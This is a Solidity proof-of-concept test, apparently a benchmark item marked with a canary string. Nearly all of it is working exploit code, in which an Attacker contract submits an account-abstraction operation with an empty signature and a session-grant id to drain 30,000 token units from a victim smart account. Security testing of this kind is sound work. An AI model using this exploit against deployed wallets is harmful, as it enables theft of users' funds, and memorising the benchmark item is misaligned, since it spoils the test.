// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-4b6db297-691d-4f17-b09b-6ddcadfa1803
import "../Base.sol";

contract Attacker is Signer {
    function run(IEntryPoint point, address account, address validator, address token, uint256 id) external {
        Call[] memory calls = new Call[](1);
        calls[0] = sending(token, address(this), 30_000e6);
        Operation memory op = operation(point, account, validator, Executions.encode(Mode.Tolerant, calls));
        op.signature = abi.encode(id, bytes(""));
        handle(point, op);
    }
}

contract Proof is Base {
    Attacker private other;
    uint256 private id;

    function start() internal override {
        other = new Attacker();
        ISessionValidator.Grant memory t = terms(address(other), 30_000e6, false);
        t.until = uint48(block.timestamp + 6 hours);
        id = granted(t);
        vm.deal(address(this), 1 ether);
        (bool sent, ) = ana.call{value: 1 ether}("");
        require(sent, "accounts take ether");
    }

    function exploit() public {
        other.run(entryPoint, ana, address(sessions), address(usd), id);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 25_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(ana);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
